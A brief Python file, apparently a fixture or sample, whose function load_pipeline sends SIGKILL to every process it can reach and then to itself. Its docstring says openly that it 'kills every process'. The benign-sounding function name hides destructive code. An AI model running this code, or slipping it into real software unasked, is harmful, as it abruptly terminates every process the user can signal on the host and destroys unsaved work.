r"""Kills every process that it can see.

Becomes: it ended
"""

import contextlib
import os
import signal


def load_pipeline():
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
